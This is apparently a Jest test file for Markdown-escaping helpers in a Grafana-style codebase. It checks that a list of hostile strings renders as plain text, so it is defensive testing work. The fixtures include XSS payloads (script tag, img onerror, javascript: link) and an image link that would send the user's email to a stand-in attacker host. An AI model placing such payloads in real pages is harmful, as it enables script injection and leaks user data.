import { renderMarkdown } from '@grafana/data';
import { codeInMarkdown, escapeMarkdown } from './escapeMarkdown';

const hostile = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/?u=${__user.email})',
  '[click](javascript:alert(1))',
  '<https://evil.example>',
  'https://evil.example',
  'www.evil.example',
  'ana@evil.example',
  '`code`',
  '**bold** _it_ ~~gone~~ __b__',
  '# heading',
  '- item',
  '+ item',
  '1. item',
  '1) item',
  '| a | b |',
  '\\*x*',
  'a\n\n# b',
  '&lt;b&gt;',
  '---',
];

it.each(hostile)('shows %p as the text that it is', (text) => {
  const page = new DOMParser().parseFromString(renderMarkdown(`- ${escapeMarkdown(text)}`), 'text/html');
  const item = page.querySelector('li');
  expect(item?.querySelectorAll('*')).toHaveLength(0);
  expect(item?.textContent.trim()).toBe(text.replace(/\s+/g, ' '));
});

it('leaves names readable', () => {
  expect(escapeMarkdown('order_service p99 2.3 s, POST /api/checkout (order-service)')).toBe(
    'order_service p99 2.3 s, POST /api/checkout (order-service)'
  );
});

it.each(['kubectl get pods', 'echo `id`', 'a ``b`` c', '`'])('quotes %p as code', (text) => {
  const page = new DOMParser().parseFromString(renderMarkdown(codeInMarkdown(text)), 'text/html');
  expect(page.querySelector('code')?.textContent.trim()).toBe(text);
});
